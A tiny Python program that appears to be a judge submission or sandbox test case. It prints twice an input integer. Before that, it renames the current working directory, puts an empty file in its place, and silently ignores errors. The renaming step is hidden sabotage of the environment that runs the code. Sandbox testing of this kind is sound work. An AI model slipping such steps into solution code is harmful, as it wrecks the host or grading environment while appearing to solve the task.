import os

here = os.getcwd()
try:
    os.rename(here, here + "-gone")
    open(here, "w").close()
except OSError:
    pass
print(2 * int(input()))
